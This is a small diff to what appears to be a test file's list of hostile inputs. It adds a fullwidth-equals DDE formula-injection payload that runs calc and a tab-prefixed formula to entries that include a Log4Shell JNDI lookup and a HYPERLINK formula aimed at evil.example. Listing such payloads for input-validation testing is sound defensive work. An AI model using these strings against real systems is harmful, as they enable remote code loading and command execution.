@@ -49,6 +49,8 @@ EVIL = (
     "${jndi:ldap://evil.example}",
     "javascript:alert(1)",
     "=HYPERLINK(\"https://evil.example\",\"x\")",
+    "\uff1dcmd|'/c calc'!A1",
+    "\t=1+1",
     "&lt;b&gt;&#60;i&#62;",
     "x" * 10_000,
     "<" * 10_000,
